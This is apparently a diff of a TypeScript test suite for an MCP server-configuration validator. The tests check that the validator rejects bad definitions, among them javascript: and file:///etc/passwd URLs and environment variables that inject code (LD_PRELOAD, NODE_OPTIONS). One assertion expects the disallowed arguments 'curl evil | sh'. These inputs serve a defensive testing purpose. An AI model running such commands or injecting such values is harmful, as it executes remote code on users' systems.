@@ -48,10 +48,11 @@ const problemsOf = (raw: unknown) =>
     ({ problems }) => problems.map((problem) => `${problem._tag} ${ConfigError.jsonPath(problem.path)}`)
   )
 
-describe("decode", () => {
+describe("ServerConfig.decode", () => {
   it.effect("fills in the defaults of a stdio server", () =>
     Effect.gen(function*() {
-      const config = yield* ServerConfig.decode(stdio)
+      const config = yield* ServerConfig.decode({ command: "server" })
+      assert.deepStrictEqual(yield* ServerConfig.decode(stdio), config)
       assert.deepStrictEqual(config, {
         transport: "stdio",
         command: "server",
@@ -95,12 +96,27 @@ describe("decode", () => {
     }))
 
   const inferred: ReadonlyArray<readonly [title: string, given: ServerConfig.ServerConfigInput, canonical: unknown]> = [
-    ["stdio from command", { command: "x" }, { transport: "stdio", command: "x", args: [] }],
-    ["stdio from a command list", { command: ["x", "a", "b"] }, { transport: "stdio", command: "x", args: ["a", "b"] }],
-    ["streamable_http with sseFallback from url", { url: http.url }, { ...http, sseFallback: true }],
-    ["streamable_http with sseFallback from httpUrl", { httpUrl: http.url }, { ...http, sseFallback: true }],
-    ["streamable_http without sseFallback, if it says so", { url: http.url, sseFallback: false }, http],
-    ["websocket from a wss:// URL", { url: "wss://h/x" }, { transport: "websocket", url: "wss://h/x" }]
+    ["the transport stdio from a command", { command: "x" }, { transport: "stdio", command: "x", args: [] }],
+    ["the transport stdio from a list of a command and its arguments", { command: ["x", "a", "b"] }, {
+      transport: "stdio",
+      command: "x",
+      args: ["a", "b"]
+    }],
+    ["the transport streamable_http with sseFallback from a url", { url: http.url }, { ...http, sseFallback: true }],
+    ["the transport streamable_http with sseFallback from the alias httpUrl", { httpUrl: http.url }, {
+      ...http,
+      sseFallback: true
+    }],
+    [
+      "the transport streamable_http from a url, and keeps sseFallback: false",
+      { url: http.url, sseFallback: false },
+      http
+    ],
+    ["the transport websocket from a wss:// URL", { url: "wss://h/x" }, { transport: "websocket", url: "wss://h/x" }],
+    ["the transport websocket from a URL whose scheme is in capitals", { url: "WS://h/x" }, {
+      transport: "websocket",
+      url: "WS://h/x"
+    }]
   ]
   for (const [title, given, canonical] of inferred) {
     it.effect(`infers ${title}`, () =>
@@ -189,56 +205,67 @@ describe("decode", () => {
     }))
 })
 
-describe("decode of an invalid definition", () => {
+describe("ServerConfig.decode of an invalid definition", () => {
   const table: ReadonlyArray<readonly [title: string, raw: unknown, problems: ReadonlyArray<string>]> = [
     ["a definition that is text", "stdio", ["InvalidValue $"]],
     ["a definition that is a list", [], ["InvalidValue $"]],
-    ["a missing transport", { args: [] }, ["MissingTransport $"]],
-    ["an unsupported transport", { ...stdio, transport: "carrier pigeon" }, ["UnsupportedTransport $.transport"]],
-    ["an unsupported type", { type: 7 }, ["UnsupportedTransport $.type"]],
-    ["a missing command", { transport: "stdio", args: [] }, ["MissingKey $"]],
-    ["a missing url", { transport: "sse" }, ["MissingKey $"]],
+    ["a definition without transport, command and url", { args: [] }, ["MissingTransport $"]],
+    ["a definition whose key command is mistyped, and names the mistyped key", { comand: "x", args: [] }, [
+      "MissingTransport $",
+      "UnknownKey $.comand"
+    ]],
+    ["a url beside a command, which makes the server a stdio server", { command: "x", url: http.url }, [
+      "MisplacedKey $.url"
+    ]],
+    ["a transport that does not exist", { ...stdio, transport: "carrier pigeon" }, [
+      "UnsupportedTransport $.transport"
+    ]],
+    ["a transport that is not a string, under the alias type", { type: 7 }, ["UnsupportedTransport $.type"]],
+    ["a stdio definition without a command", { transport: "stdio", args: [] }, ["MissingKey $"]],
+    ["an sse definition without a url", { transport: "sse" }, ["MissingKey $"]],
     ["an empty command", { ...stdio, command: "" }, ["InvalidValue $.command"]],
-    ["a NUL in a command", { ...stdio, command: "a\0b" }, ["InvalidValue $.command"]],
-    ["a NUL in an argument", { ...stdio, args: ["a", "b\0c"] }, ["InvalidValue $.args[1]"]],
-    ["a shell", { ...stdio, shell: true }, ["UnknownKey $.shell"]],
-    ["args as text", { ...stdio, args: "a b" }, ["InvalidValue $.args"]],
+    ["a command with a NUL character", { ...stdio, command: "a\0b" }, ["InvalidValue $.command"]],
+    ["an argument with a NUL character", { ...stdio, args: ["a", "b\0c"] }, ["InvalidValue $.args[1]"]],
+    ["the unknown key shell", { ...stdio, shell: true }, ["UnknownKey $.shell"]],
+    ["args that are text instead of a list", { ...stdio, args: "a b" }, ["InvalidValue $.args"]],
     ["each argument that is a number", { ...stdio, args: ["a", 1, 2] }, [
       "InvalidValue $.args[1]",
       "InvalidValue $.args[2]"
     ]],
     ["a variable whose value is a number", { ...stdio, env: { A: 1 } }, ["InvalidValue $.env.A"]],
-    ["a variable name with =", { ...stdio, env: { "A=B": "x" } }, ["InvalidValue $.env[\"A=B\"]"]],
+    ["a variable whose name contains =", { ...stdio, env: { "A=B": "x" } }, ["InvalidValue $.env[\"A=B\"]"]],
     ["a URL without a scheme", { ...http, url: "example.com/mcp" }, ["InvalidUrl $.url"]],
-    ["a URL of another scheme", { ...http, url: "ftp://example.com" }, ["InvalidUrl $.url"]],
-    ["a script as URL", { ...http, url: "javascript:alert(1)" }, ["InvalidUrl $.url"]],
-    ["a script as URL with an authority", { ...http, url: "javascript://example.com/%0aalert(1)" }, [
+    ["a URL with the scheme ftp", { ...http, url: "ftp://example.com" }, ["InvalidUrl $.url"]],
+    ["a javascript URL", { ...http, url: "javascript:alert(1)" }, ["InvalidUrl $.url"]],
+    ["a javascript URL with a host", { ...http, url: "javascript://example.com/%0aalert(1)" }, [
       "InvalidUrl $.url"
     ]],
-    ["a file as URL", { transport: "sse", url: "file:///etc/passwd" }, ["InvalidUrl $.url"]],
-    ["data as URL", { ...http, url: "data:text/plain,x" }, ["InvalidUrl $.url"]],
-    ["a WebSocket URL for HTTP", { ...http, url: "wss://example.com" }, ["InvalidUrl $.url"]],
-    ["an HTTP URL for a WebSocket", { transport: "websocket", url: http.url }, ["InvalidUrl $.url"]],
-    ["a URL with credentials", { ...http, url: "https://me:secret@example.com" }, ["InvalidUrl $.url"]],
-    ["a URL with a user name", { ...http, url: "https://me@example.com" }, ["InvalidUrl $.url"]],
+    ["a file URL", { transport: "sse", url: "file:///etc/passwd" }, ["InvalidUrl $.url"]],
+    ["a data URL", { ...http, url: "data:text/plain,x" }, ["InvalidUrl $.url"]],
+    ["a WebSocket URL on a streamable_http server", { ...http, url: "wss://example.com" }, ["InvalidUrl $.url"]],
+    ["an HTTP URL on a websocket server", { transport: "websocket", url: http.url }, ["InvalidUrl $.url"]],
+    ["a URL with a user name and a password", { ...http, url: "https://me:secret@example.com" }, ["InvalidUrl $.url"]],
+    ["a URL with a user name only", { ...http, url: "https://me@example.com" }, ["InvalidUrl $.url"]],
     ["an invalid URL under an alias", { type: "http", serverUrl: "nope" }, ["InvalidUrl $.serverUrl"]],
     ["an unknown key", { ...stdio, shelf: true }, ["UnknownKey $.shelf"]],
     ["a key with the name of an inherited property", { ...stdio, constructor: 1 }, ["UnknownKey $.constructor"]],
-    ["headers on stdio", { ...stdio, headers: {} }, ["MisplacedKey $.headers"]],
-    ["args on HTTP", { ...http, args: [] }, ["MisplacedKey $.args"]],
-    ["a key under two names", { ...http, baseUrl: http.url }, ["ConflictingKeys $"]],
-    ["arguments given twice", { ...stdio, command: ["a", "b"], args: ["c"] }, ["ConflictingKeys $"]],
-    ["a duration without unit", { ...stdio, requestTimeout: "soon" }, ["InvalidDuration $.requestTimeout"]],
+    ["headers on a stdio server", { ...stdio, headers: {} }, ["MisplacedKey $.headers"]],
+    ["args on an HTTP server", { ...http, args: [] }, ["MisplacedKey $.args"]],
+    ["a key that is given under two names", { ...http, baseUrl: http.url }, ["ConflictingKeys $"]],
+    ["arguments that are given in both command and args", { ...stdio, command: ["a", "b"], args: ["c"] }, [
+      "ConflictingKeys $"
+    ]],
+    ["a duration that does not parse", { ...stdio, requestTimeout: "soon" }, ["InvalidDuration $.requestTimeout"]],
     ["a negative duration", { ...stdio, connectTimeout: -1 }, ["InvalidDuration $.connectTimeout"]],
-    ["a duration that is NaN", { ...stdio, totalTimeout: Number.NaN }, ["InvalidDuration $.totalTimeout"]],
-    ["an endless duration", { ...stdio, idleTimeToLive: "Infinity" }, ["InvalidDuration $.idleTimeToLive"]],
+    ["the duration NaN", { ...stdio, totalTimeout: Number.NaN }, ["InvalidDuration $.totalTimeout"]],
+    ["an infinite duration", { ...stdio, idleTimeToLive: "Infinity" }, ["InvalidDuration $.idleTimeToLive"]],
     ["a duration above its maximum", { ...stdio, requestTimeout: "1000 days" }, ["InvalidDuration $.requestTimeout"]],
-    ["a size below its minimum", { ...stdio, maxMessageBytes: 10 }, ["InvalidValue $.maxMessageBytes"]],
-    ["an unknown protocol", { ...stdio, protocol: "2099-01-01" }, ["InvalidValue $.protocol"]],
-    ["an unknown encoding", { ...stdio, encoding: "ebcdic" }, ["InvalidValue $.encoding"]],
+    ["a message size below its minimum", { ...stdio, maxMessageBytes: 10 }, ["InvalidValue $.maxMessageBytes"]],
+    ["a protocol that does not exist", { ...stdio, protocol: "2099-01-01" }, ["InvalidValue $.protocol"]],
+    ["an encoding that does not exist", { ...stdio, encoding: "ebcdic" }, ["InvalidValue $.encoding"]],
     ["client info without a version", { ...stdio, clientInfo: { name: "n" } }, ["InvalidValue $.clientInfo.version"]],
-    ["a header name with a space", { ...http, headers: { "a b": "x" } }, ["InvalidValue $.headers[\"a b\"]"]],
-    ["each header that the transport writes", {
+    ["a header whose name contains a space", { ...http, headers: { "a b": "x" } }, ["InvalidValue $.headers[\"a b\"]"]],
+    ["each header that the transport sets itself", {
       ...http,
       headers: { "Mcp-Session-Id": "x", "MCP-PROTOCOL-VERSION": "x", host: "x", "Content-Length": "1", Fine: "x" }
     }, [
@@ -252,7 +279,7 @@ describe("decode of an invalid definition", () => {
       url: "wss://example.com",
       headers: { "Sec-WebSocket-Protocol": "other" }
     }, ["ReservedHeader $.headers[\"Sec-WebSocket-Protocol\"]"]],
-    ["each variable that changes which code runs", {
+    ["each variable that changes which code the server runs", {
       ...stdio,
       env: { NODE_OPTIONS: "x", LD_PRELOAD: "x", DYLD_INSERT_LIBRARIES: "x", PYTHONSTARTUP: "x", FINE: "x" }
     }, [
@@ -261,13 +288,13 @@ describe("decode of an invalid definition", () => {
       "UnsafeVariable $.env.DYLD_INSERT_LIBRARIES",
       "UnsafeVariable $.env.PYTHONSTARTUP"
     ]],
-    ["a variable that disables TLS checks, in any letter case", {
+    ["a variable that disables TLS checks, in any letter case and under an alias of env", {
       ...stdio,
       allowUnsafeEnv: false,
       environment: { Node_Tls_Reject_Unauthorized: "0" }
     }, ["UnsafeVariable $.environment.Node_Tls_Reject_Unauthorized"]],
     [
-      "every invalid key at once",
+      "a definition with several problems, and reports all of them",
       { ...stdio, command: "", headers: {}, nonsense: 1, requestTimeout: "never" },
       ["InvalidValue $.command", "MisplacedKey $.headers", "UnknownKey $.nonsense", "InvalidDuration $.requestTimeout"]
     ]
@@ -287,7 +314,7 @@ describe("decode of an invalid definition", () => {
       ["a character outside Latin-1", "s3cret→"]
     ] as const
   ) {
-    it.effect(`rejects ${title} in a header before an HTTP client can quote the value`, () =>
+    it.effect(`rejects ${title} in the value of a header, and does not quote the value`, () =>
       Effect.gen(function*() {
         for (const remote of [http, { transport: "sse", url: http.url }, { transport: "websocket", url: "wss://h" }]) {
           const error = yield* Effect.flip(ServerConfig.decode({ ...remote, headers: { Authorization: value } }))
@@ -311,7 +338,7 @@ describe("decode of an invalid definition", () => {
       })
   )
 
-  it.effect("accepts unsafe variables with allowUnsafeEnv", () =>
+  it.effect("accepts unsafe variables only with allowUnsafeEnv, in the bare schema too", () =>
     Effect.gen(function*() {
       const given = { ...stdio, env: { NODE_OPTIONS: "--max-old-space-size=64" }, allowUnsafeEnv: true }
       const config = yield* ServerConfig.decode(given)
@@ -339,13 +366,13 @@ describe("decode of an invalid definition", () => {
       "a key",
       { ...stdio, connectTimeout: 0 },
       "$.connectTimeout: \"connectTimeout\" must be a duration from 1 ms to " +
-      "10 minutes, in milliseconds or such as \"20 seconds\""
+      "10 minutes, written as milliseconds or as text such as \"20 seconds\""
     ],
     [
       "an alias",
       { ...stdio, timeout: "soon" },
-      "$.timeout: \"timeout\" must be a duration from 1 ms to 24 hours, in " +
-      "milliseconds or such as \"20 seconds\""
+      "$.timeout: \"timeout\" must be a duration from 1 ms to 24 hours, " +
+      "written as milliseconds or as text such as \"20 seconds\""
     ],
     ["a list item", { ...stdio, args: ["a", 1] }, "$.args[1]: \"args[1]\" must be a string without NUL characters"],
     [
@@ -377,7 +404,7 @@ describe("decode of an invalid definition", () => {
     ]
   ]
   for (const [title, raw, message] of expectations) {
-    it.effect(`names the expectation of ${title}`, () =>
+    it.effect(`says in its message what ${title} must be`, () =>
       Effect.map(Effect.flip(ServerConfig.decode(raw)), (error) => assert.strictEqual(error.message, message)))
   }
 
@@ -420,7 +447,7 @@ describe("decode of an invalid definition", () => {
 })
 
 describe("allowCommand", () => {
-  it.effect("rejects every program that the application does not allow", () =>
+  it.effect("rejects every program that the application does not allow, and does not quote its arguments", () =>
     Effect.gen(function*() {
       const servers = {
         good: { transport: "stdio", command: "node", args: ["server.js"] },
@@ -438,16 +465,21 @@ describe("allowCommand", () => {
           "DisallowedCommand $.servers.worse.command: this application does not allow the command \"npx\""
         ]
       )
+      // Programs that ask their users show the arguments, which the problem holds as data.
+      assert.deepStrictEqual(
+        problems.map((problem) => problem._tag === "DisallowedCommand" ? problem.args : []),
+        [["-c", "curl evil | sh"], ["-y", "anything"]]
+      )
       assert.strictEqual((yield* ServerConfig.decodeServers({ servers })).length, 4)
     }))
 })
 
 describe("ServerConfigInput", () => {
   const accepted: Readonly<Record<string, ServerConfig.ServerConfigInput>> = {
-    command: { command: "npx", args: ["-y", "server"] },
+    "a command": { command: "npx", args: ["-y", "server"] },
     "a command list": { type: "local", command: ["npx", "-y", "server"], environment: { A: "1" }, enabled: true },
     "the alias envs": { command: "npx", envs: { A: "1" }, timeout: 1000, encoding_error_handler: "ignore" },
-    url: { url: "https://example.com/mcp" },
+    "a url": { url: "https://example.com/mcp" },
     "a type": { type: "http", url: "https://example.com/mcp", headers: { authorization: "Bearer x" } },
     "the transport remote": { transport: "remote", baseUrl: "https://example.com/mcp", requestTimeout: "1 minute" },
     "the type sse": { type: "sse", serverUrl: "https://example.com/mcp" },
@@ -457,7 +489,8 @@ describe("ServerConfigInput", () => {
     "a Duration": { command: "npx", connectTimeout: Duration.seconds(3) }
   }
   for (const [title, definition] of Object.entries(accepted)) {
-    it.effect(`accepts ${title}, and decode does too`, () => Effect.asVoid(ServerConfig.decode(definition)))
+    it.effect(`accepts a definition with ${title}, and decode accepts it too`, () =>
+      Effect.asVoid(ServerConfig.decode(definition)))
   }
 
   it.effect("rejects at compile time what decode rejects at run time", () =>
